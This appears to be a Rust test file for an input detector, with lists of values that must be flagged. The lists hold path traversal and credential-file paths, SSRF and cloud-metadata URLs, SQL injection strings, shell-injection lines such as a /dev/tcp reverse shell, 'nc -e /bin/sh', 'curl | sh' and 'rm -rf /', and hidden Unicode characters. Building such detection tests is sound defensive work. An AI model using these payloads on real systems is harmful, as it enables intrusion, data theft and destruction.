//! Values that must hit, each with the parameter it stands in.

use super::checks;

/// The part of a table that is found, in per cent, with the misses.
fn found(check: &str, parameters: &[&str], values: &[&str]) -> (usize, Vec<String>) {
    let mut missed = Vec::new();
    for parameter in parameters {
        for value in values {
            if !checks(parameter, value).contains(&check) {
                missed.push(format!("{parameter}: {value:?}"));
            }
        }
    }
    let all = parameters.len() * values.len();
    ((all - missed.len()) * 100 / all, missed)
}

#[test]
fn paths_that_leave_their_place_are_found() {
    let (part, missed) = found("path", &["path", "fileName", "dir"], PATHS);
    assert!(part == 100, "{part} %\n{}", missed.join("\n"));
}

#[test]
fn paths_that_cannot_be_anything_else_are_found_in_any_parameter() {
    let (part, missed) = found("path", &["lang", "user", "host"], SURE_PATHS);
    assert!(part == 100, "{part} %\n{}", missed.join("\n"));
}

#[test]
fn urls_that_lead_inside_are_found() {
    let (part, missed) =
        found("url", &["url", "webhookUrl", "image_uri", "href", "uri", "resourceUri"], URLS);
    assert!(part == 100, "{part} %\n{}", missed.join("\n"));
}

#[test]
fn urls_are_found_in_parameters_that_are_not_named_so() {
    let (part, missed) = found("url", &["resource", "name", "host"], SURE_URLS);
    assert!(part == 100, "{part} %\n{}", missed.join("\n"));
}

#[test]
fn sql_is_found_where_none_belongs() {
    let (part, missed) = found("sql", &["id", "username", "city", "path"], SQL);
    assert!(part == 100, "{part} %\n{}", missed.join("\n"));
}

#[test]
fn commands_are_found_in_words() {
    let (part, missed) = found("shell", &["host", "ip", "branch_name", "port"], COMMANDS);
    assert!(part == 100, "{part} %\n{}", missed.join("\n"));
}

#[test]
fn commands_are_found_in_names_and_paths() {
    let (part, missed) = found("shell", &["name", "fileName", "id", "city"], COMMANDS);
    assert!(part == 100, "{part} %\n{}", missed.join("\n"));
}

#[test]
fn options_and_other_syntax_are_found_in_words() {
    let (part, missed) = found("shell", &["host", "branch"], WORDS);
    assert!(part == 100, "{part} %\n{}", missed.join("\n"));
}

#[test]
fn s36_hidden_text_is_found_in_every_parameter() {
    let (part, missed) = found("hidden_text", &["text", "path", "id", "city"], HIDDEN);
    assert!(part == 100, "{part} %\n{}", missed.join("\n"));
}

const PATHS: &[&str] = &[
    "../secret",
    "..",
    "a/..",
    "a/../../b",
    "..\\secret",
    "a\\..\\b",
    "/../x",
    "%2e%2e/x",
    "%2e%2e%2fx",
    "..%2fx",
    "..%5cx",
    "%252e%252e%252fx",
    "%25252e%25252e%25252fx",
    "..%c0%afx",
    "%c0%ae%c0%ae/x",
    "..%c1%9cx",
    "..%u2215x",
    "%uff0e%uff0e/x",
    "．．／x",
    "..∕x",
    "....//....//x",
    "..../x",
    "..;/x",
    "a/..;b/x",
    ".. /x",
    "x.png%00.txt",
    "x\u{0}",
    "/etc/passwd",
    "/etc",
    "/ETC/Passwd",
    "//etc/passwd",
    "file:///etc/shadow",
    "/proc/self/environ",
    "/sys/class",
    "/dev/sda",
    "/root",
    "/home/x/.ssh/id_rsa",
    concat!("/ro", "ot/.ssh/id_rsa"),
    "/var/log/auth.log",
    "/var/run/docker.sock",
    "/run/secrets/token",
    "/usr/local/apache2/conf/httpd.conf",
    "/opt/site/logs/access_log",
    "~root/.bashrc",
    "~admin",
    "~/.ssh/id_ed25519",
    "/home/x/.aws/credentials",
    "etc/passwd",
    "C:\\Windows\\win.ini",
    "c:/boot.ini",
    "C:\\",
    "\\\\server\\share",
    "\\\\?\\C:\\x",
    "//server/share/x",
    "\\windows\\system32\\drivers",
    "php://filter/convert.base64-encode/resource=index",
    "expect://id",
    "phar://x.phar/y",
    "data:text/plain;base64,PD9waHA=",
    "zip://a.zip#b",
    "jar:http://x/y.jar!/",
    "WEB-INF/web.xml",
];

const SURE_PATHS: &[&str] = &[
    "../../../../etc/passwd",
    "../../x",
    "en/../../../boot.ini%00",
    "..%2f..%2fx",
    "%2e%2e/x",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "/proc/self/cmdline",
    "x/.ssh/id_rsa",
];

const URLS: &[&str] = &[
    "http://127.0.0.1/",
    "http://127.1/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0x7f.0.0.1/",
    "http://0177.0.0.1/",
    "http://0/",
    "http://0.0.0.0:80/",
    "http://localhost/",
    "http://LOCALHOST:8080/x",
    "http://app.localhost/",
    "http://localhost./",
    "http://[::1]/",
    "http://[::]/",
    "http://[::ffff:127.0.0.1]/",
    "http://[::ffff:a9fe:a9fe]/",
    "http://[0:0:0:0:0:ffff:7f00:1]/",
    "http://[64:ff9b::7f00:1]/",
    "http://[2002:7f00:1::]/",
    "http://[fe80::1]/",
    "http://[fc00::1]/",
    "http://10.0.0.1/",
    "http://172.16.0.1/",
    "http://172.31.255.255/",
    "http://192.168.1.1/admin",
    "http://100.64.0.1/",
    "http://169.254.169.254/latest/meta-data/",
    "https://169.254.169.254/",
    "http://[fd00:ec2::254]/latest/",
    "http://168.63.129.16/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://metadata/",
    "http://kubernetes.default.svc/",
    "http://backend:8080/",
    "http://127.0.0.1.nip.io/",
    "http://localtest.me/",
    "http://①②⑦.⓪.⓪.①/",
    "http://１２７.0.0.1/",
    "http://127。0。0。1/",
    "http://%31%32%37.0.0.1/",
    "http:/127.0.0.1/",
    "http:127.0.0.1",
    "http:\\\\127.0.0.1\\",
    "//127.0.0.1/x",
    "127.0.0.1:8080/x",
    "localhost:9000",
    "[::1]:80",
    "http://user:pw@example.com/",
    "http://example.com@evil.example/",
    "https://example.com\\@evil.example/",
    "https://example.com#@evil.example/",
    "http://1.1.1.1 @127.0.0.1/",
    "http://exa\tmple.com/",
    "http://999.999.999.999/",
    "file:///etc/passwd",
    "FILE:///etc/passwd",
    "file:/etc/passwd",
    "gopher://127.0.0.1:6379/_x",
    "dict://x:11211/stat",
    "ftp://x/y",
    "ldap://x/y",
    "jar:http://x!/",
    "javascript:alert(1)",
    "data:text/html,<script>",
    "data:image/svg+xml,<svg>",
    "netdoc:///etc/passwd",
    "ssh://x",
];

const SURE_URLS: &[&str] = &[
    "http://127.0.0.1/",
    "https://169.254.169.254/latest/",
    "HTTP://localhost:3000",
    "gopher://x/y",
    "file:///etc/passwd",
    "http://u:p@example.com/",
];

const SQL: &[&str] = &[
    "' or '1'='1",
    "' OR 1=1--",
    "' or 1=1#",
    "' or 1=1/*",
    "') or ('a'='a",
    "\" or \"\"=\"",
    "\" or 1=1--",
    "admin'--",
    "admin' #",
    "admin'/*",
    "admin' or '1'='1'--",
    "' or 'x' like 'x",
    "' or true--",
    "' || '1'='1",
    "' && '1'='1",
    "'='",
    "'-'",
    "' or ''='",
    "'or'1'='1' --",
    "1 or 1=1",
    "1 OR 1 = 1",
    "1) or (1=1",
    "-1 or 2>1",
    "1 and 1=2",
    "1' and sleep(5)#",
    "1 and sleep(5)",
    "1;waitfor delay '0:0:5'--",
    "1); select pg_sleep(5)--",
    "1 or benchmark(10000000,md5(1))",
    "1 union select null,null--",
    "' union select username, password from users--",
    "' UNION ALL SELECT @@version --",
    "1 union/**/select/**/1,2,3",
    "1 /*!50000union*/ /*!50000select*/ 1,2",
    "1+union+select+1,2",
    "1%20union%20select%201,2",
    "1%2520union%2520select%25201,2",
    "1 union(select 1,2)",
    "1; drop table users",
    "1'; DROP TABLE users;--",
    "'; exec xp_cmdshell('dir')--",
    "'; insert into users values(1)--",
    "'; update users set admin=1--",
    "'; delete from users--",
    "'; shutdown--",
    "'; declare @x varchar(9)--",
    "1 order by 10--",
    "' order by 3#",
    "' having 1=1--",
    "' group by users.id having 1=1--",
    "1 and (select count(*) from users) > 0",
    "1 and ascii(substring((select database()),1,1))>64",
    "1' and extractvalue(1,concat(0x7e,version()))--",
    "updatexml(1,concat(0x7e,user()),1)",
    "1 procedure analyse()",
    "' into outfile '/tmp/x.php'--",
    "load_file('/etc/passwd')",
    "1 and 1=1 and 'a'='a",
    "' and 1 in (select @@version)--",
    "' or exists(select 1 from dual)--",
    "1 or (select 1)=1",
    "x' and email is null; --",
    "x' and userid is not null; --",
    "x' or full_name like '%bob%",
    "' or username like '%",
    "1' rlike (select 1)--",
    "1 regexp '^1'",
    "1 case when 1=1 then 1 else 2 end",
    "if(1=1,sleep(5),0)",
    "select * from information_schema.tables",
    "1 or name from sqlite_master",
    "%27%20or%201=1--",
    "\\'; desc users; --",
    "' or 0x31=0x31",
    "1 or 1 -- -",
    "test' or 1--",
    "'; begin declare @r varchar(99)",
    "' || utl_http.request('http://x/')||'",
    "a' waitfor delay '0:0:1",
    "1' limit 1 offset 1--",
    "')) or true--",
    "'+(select 1)+'",
];

const COMMANDS: &[&str] = &[
    "; id",
    ";id",
    ";id;",
    "|id",
    "| id",
    "||id",
    "&id",
    "&&id",
    "& whoami",
    "`id`",
    "`cat /etc/passwd`",
    "$(id)",
    "$(cat /etc/passwd)",
    "a;whoami",
    "a | whoami",
    "x; cat /etc/passwd",
    "x | cat /etc/passwd",
    "x && cat /etc/passwd",
    "x & cat /etc/passwd &",
    "x\nid",
    "x\r\nwhoami",
    "x%0Aid",
    "x%3Bid",
    "x%0a/bin/cat /etc/passwd",
    "; ls -la",
    "; sleep 10",
    "| sleep 10",
    "&& sleep 10 &&",
    "| ping -c 10 127.0.0.1 |",
    "& ping -n 30 127.0.0.1 &",
    "; wget http://x/y",
    "; curl http://x/y | sh",
    "|nc -e /bin/sh 10.0.0.1 4444",
    "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    ";${IFS}cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    ";c\\at /etc/passwd",
    ";c'a't /etc/passwd",
    ";/bin/cat /etc/passwd",
    ";/???/??t /???/p??s??",
    ";{cat,/etc/passwd}",
    "() { :;}; echo vulnerable",
    "x; echo pwned > /tmp/y",
    "x > /tmp/y",
    "x < /etc/passwd",
    "$(sleep 5)",
    "$((1+1))",
    "${jndi:ldap://x/y}",
    "<(cat /etc/passwd)",
    "| dir c:\\",
    "& dir",
    "&& type c:\\boot.ini",
    "| net user",
    "; powershell -c whoami",
    "cmd /c dir",
    "cmd.exe /c whoami",
    "powershell -enc SQBFAFgA",
    "bash -c 'id'",
    "/bin/sh -c id",
    "/bin/cat /etc/passwd",
    "/usr/bin/id;",
    "python -c 'import os'",
    "perl -e 'print 1'",
    "php -r 'phpinfo();'",
    "wget http://x/y",
    "curl -s https://x/y",
    "cat /etc/passwd",
    "<?php system('id'); ?>",
    "<!--#exec cmd=\"id\"-->",
    "; phpinfo();",
    "system('id')",
    "__import__('os').system('id')",
    "require('child_process').exec('id')",
    "x;system(\"id\")",
    "x | tee /tmp/y",
    "; rm -rf /",
    "; touch /tmp/x",
    "|| touch /tmp/x",
    "; nslookup x.example",
    "$(nslookup x.example)",
    "`nslookup x.example`",
    "| uname -a",
    "; uname -a",
    "; python3 -c 'x'",
];

const WORDS: &[&str] = &[
    "-oProxyCommand=calc",
    "--upload-pack=x",
    "a b;c",
    "x'",
    "x\"",
    "x$y",
    "x(y)",
    "x>y",
    "x\u{7}",
    "x*",
    "a../../b",
];

const HIDDEN: &[&str] = &[
    "abc\u{202e}cba",
    "a\u{2066}b\u{2069}",
    "hello\u{e0068}\u{e0069}",
    "\u{e0001}",
    "\u{1f3f4}\u{e0067}\u{e007f}\u{e0041}",
    "a\u{200b}\u{200c}\u{200b}b",
    "a\u{2062}\u{2063}\u{2064}b",
    "x\u{fe00}\u{fe01}y",
    "😀\u{e0101}\u{e0102}\u{e0103}",
    "\u{feff}\u{feff}\u{feff}x",
];
